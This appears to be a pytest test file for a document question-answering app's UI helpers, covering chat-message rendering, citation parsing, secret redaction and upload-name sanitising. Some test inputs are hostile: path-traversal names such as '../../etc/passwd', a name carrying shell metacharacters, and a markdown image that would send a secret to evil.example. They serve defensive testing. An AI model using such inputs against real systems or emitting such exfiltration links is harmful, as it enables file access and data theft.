@@ -1,0 +1,191 @@
+"""The UI's pure functions: agent steps -> chat messages, citation values, upload names, tables."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from madqa.types import AnswerStep, ErrorStep, Hit, ModelStep, PageRef, SearchStep, ToolCall, Usage
+from madqa.ui.corpus import page_ranges
+from madqa.ui.messages import (
+    answer_message,
+    citation_value,
+    md_code,
+    md_escape,
+    model_message,
+    parse_citation_value,
+    pending_message,
+    redact,
+    search_message,
+    step_message,
+    summary_rows,
+    user_message,
+)
+from madqa.ui.sessions import new_session, safe_upload_name, shorten_name, valid_token
+
+HITS = (Hit("finance/report.pdf", 6, 12.5, "Total revenue 148,612"), Hit("sales/q4.pdf", 2, 3.25, ""))
+
+
+def search(**changes: object) -> SearchStep:
+    base = dict(iteration=1, query="total revenue", executed_query="total revenue", hits=HITS,
+                new_pages=(PageRef("finance/report.pdf", 6),), elapsed_s=0.0123)
+    base.update(changes)
+    return SearchStep(**base)  # type: ignore[arg-type]
+
+
+def test_a_search_is_a_collapsed_thought_with_the_query_and_the_pages() -> None:
+    message = search_message(search())
+    assert message["role"] == "assistant"
+    meta = message["metadata"]
+    assert meta["title"] == "Search 1: total revenue"
+    assert meta["status"] == "done" and meta["log"] == "2 hits · 1 new" and meta["duration"] == 0.012
+    content = message["content"]
+    assert "**Query as written:** `total revenue`" in content
+    assert "Run as" not in content  # not rewritten
+    assert "new: **finance/report\\.pdf p\\.6**" in content and "score 12.50" in content
+    assert "sales/q4\\.pdf p\\.2** · score 3.25 · seen before" in content
+    assert "Total revenue 148,612" in content
+
+
+def test_a_rewritten_query_shows_both_forms_and_the_notes() -> None:
+    message = search_message(search(executed_query="revenue OR sales", strategy_note="added synonyms",
+                                    retriever_note="matched any term", error="page 3 could not be shown"))
+    content = message["content"]
+    assert "**Query as written:** `total revenue`" in content
+    assert "**Run as:** `revenue OR sales`" in content
+    assert "added synonyms" in content and "matched any term" in content and "could not be shown" in content
+
+
+def test_a_search_with_no_hits_says_so_and_long_queries_are_shortened() -> None:
+    message = search_message(search(query="x" * 300, executed_query="x" * 300, hits=(), new_pages=()))
+    assert "No pages found." in message["content"]
+    assert len(message["metadata"]["title"]) <= 90 and message["metadata"]["title"].endswith("…")
+
+
+def test_a_model_note_lists_its_tool_calls_tokens_and_cost() -> None:
+    step = ModelStep(2, "I should look for the income statement.",
+                     (ToolCall("search_documents", {"query": "income `statement`"}),), Usage(1200, 34), 0.0021, 1.5)
+    message = model_message(step)
+    assert message["metadata"]["title"] == "Model · step 2"
+    assert message["metadata"]["log"] == "1,234 tokens · $0.0021"
+    assert "→ search_documents `` income `statement` ``" in message["content"]
+    forced = model_message(ModelStep(10, None, (), Usage(), None, 0.0, forced_answer=True))
+    assert forced["metadata"]["title"].endswith("must answer now") and "(no text)" in forced["content"]
+    assert "log" not in forced["metadata"]
+
+
+def test_an_answer_has_clickable_citations() -> None:
+    step = AnswerStep(3, ("148,612",), (PageRef("finance/report.pdf", 6), PageRef("sales/q4.pdf", 2)),
+                      flags=("citation p.99 is out of range",))
+    message = answer_message(step, "mine")
+    assert "metadata" not in message  # a plain message, not a thought
+    assert message["content"].startswith("**Answer:** 148,612")
+    assert "⚑ citation p\\.99 is out of range" in message["content"]
+    labels = [o["label"] for o in message["options"]]
+    assert labels == ["finance/report.pdf p.6", "sales/q4.pdf p.2"]
+    assert parse_citation_value(message["options"][0]["value"]) == ("mine", PageRef("finance/report.pdf", 6))
+
+
+def test_a_refusal_has_no_options() -> None:
+    message = answer_message(AnswerStep(10, (), (), flags=("no answer",), refusal=True))
+    assert "No answer" in message["content"] and "options" not in message
+
+
+def test_every_step_type_has_a_message_and_errors_are_redacted() -> None:
+    secret = "sk-test-abcdef123456"
+    error = step_message(ErrorStep(1, "backend", f"401: invalid key {secret}"), secrets=[secret])
+    assert secret not in error["content"] and "\\*\\*\\*" in error["content"]
+    assert error["metadata"]["title"] == "⚠ Problem in backend · step 1"
+    assert step_message(search())["metadata"]["title"].startswith("Search")
+    with pytest.raises(TypeError):
+        step_message("not a step")  # type: ignore[arg-type]
+
+
+def test_user_and_pending_messages() -> None:
+    assert user_message("Why?") == {"role": "user", "content": "Why?"}
+    pending = pending_message("Searching", "revenue")
+    assert pending["metadata"] == {"title": "Searching", "status": "pending"} and pending["content"] == "revenue"
+
+
+@pytest.mark.parametrize("value", [
+    "not json", "[]", json.dumps({"corpus": "demo", "file": "a.pdf", "page": 0}),
+    json.dumps({"corpus": "demo", "file": "a.pdf", "page": True}), json.dumps({"corpus": 1, "file": "a.pdf", "page": 1}),
+    json.dumps({"corpus": "demo", "file": "", "page": 1}), None,
+])
+def test_malformed_citation_values_are_refused(value: object) -> None:
+    assert parse_citation_value(value) is None
+
+
+def test_citation_values_round_trip_odd_file_names() -> None:
+    ref = PageRef('dir/a "quoted", | name.pdf', 12)
+    assert parse_citation_value(citation_value("demo", ref)) == ("demo", ref)
+
+
+def test_markdown_helpers() -> None:
+    assert md_escape("a*b_c [x](y) <b>") == "a\\*b\\_c \\[x\\]\\(y\\) \\<b\\>"
+    assert md_code("plain") == "`plain`"
+    assert md_code("has `tick`") == "`` has `tick` ``"
+    assert md_code("`edge`").startswith("`` ") and md_code("`edge`").endswith(" ``")
+    assert redact("key sk-abcdef and sk-abcdef", ["sk-abcdef"]) == "key *** and ***"
+    assert redact("short key abc", ["abc"]) == "short key abc"  # too short to be a real secret
+
+
+@pytest.mark.parametrize("name, expected", [
+    ("report.pdf", "report.pdf"),
+    ("../../etc/passwd", "passwd.pdf"),
+    ("..\\..\\windows\\evil.PDF", "evil.pdf"),
+    ("a..b.pdf", "a.b.pdf"),
+    (".hidden.pdf", "hidden.pdf"),
+    ("bad\x00na\x1fme\x7f.pdf", "badname.pdf"),
+    ("semi;colon$and`tick.pdf", "semi_colon_and_tick.pdf"),
+    ("Überblick 2024 (final).pdf", "Überblick 2024 (final).pdf"),
+    ("", "document.pdf"),
+    ("....", "document.pdf"),
+    ("notes.txt", "notes.txt.pdf"),
+    ("x" * 300 + ".pdf", "x" * 100 + ".pdf"),
+])
+def test_upload_names_are_sanitised(name: str, expected: str) -> None:
+    assert safe_upload_name(name) == expected
+
+
+def test_upload_names_are_unique_case_insensitively() -> None:
+    taken = ["report.pdf", "Report (2).pdf"]
+    assert safe_upload_name("REPORT.pdf", taken) == "REPORT (3).pdf"
+
+
+def test_sessions_get_random_tokens() -> None:
+    a, b = new_session(), new_session()
+    assert a["token"] != b["token"] and valid_token(a["token"]) and a["corpus"] == "demo"
+    assert not valid_token("../x") and not valid_token(None) and not valid_token("a" * 31)
+    assert shorten_name("dir/" + "y" * 200 + ".pdf", 20).endswith("…")
+
+
+def test_page_ranges() -> None:
+    assert page_ranges([5, 1, 2, 3, 7, 8]) == "1-3, 5, 7-8"
+    assert page_ranges([]) == ""
+
+
+def test_the_compare_summary_scores_against_gold() -> None:
+    row_a = {"config": "offline", "backend": "offline", "model": "offline", "answer": ["148,612"],
+             "citations": [{"file": "f.pdf", "page": 6}], "iterations": 2,
+             "search_history": [{"query": "total revenue"}, {"query": "revenue 2024"}],
+             "usage": {"total_tokens": 0}, "cost_usd": 0.0, "latency_s": 0.25, "error": None}
+    row_b = {**row_a, "config": "other", "answer": [], "citations": [], "search_history": [], "error": "backend: x"}
+    table = summary_rows([row_a, row_b], {"answer_variants": [["148,612"], ["EUR 148.6 million"]]})
+    rows = {line[0]: line[1:] for line in table}
+    assert rows["answer"] == ["148,612", "(no answer)"]
+    assert rows["citations"] == ["f.pdf p.6", "none"]
+    assert rows["query drift"][0] == "0.500" and rows["query drift"][1] == "–"
+    assert rows["ANLS*"] == ["1.000", "0.000"] and rows["right?"] == ["right", "wrong"]
+    assert rows["error"] == ["", "backend: x"]
+    assert rows["gold answer"] == ["148,612 / EUR 148.6 million"] * 2
+    assert "ANLS*" not in {line[0] for line in summary_rows([row_a], None)}
+
+
+def test_model_text_keeps_its_lines_but_never_renders_links_or_images() -> None:
+    step = ModelStep(1, "First line.\n\n![x](https://evil.example/?q=secret)\n[click](https://evil.example)",
+                     (), Usage(), None, 0.0)
+    content = model_message(step)["content"]
+    assert content.startswith("First line\\.  \n")
+    assert "![x](" not in content and "](https" not in content and "\\!\\[x\\]\\(https" in content
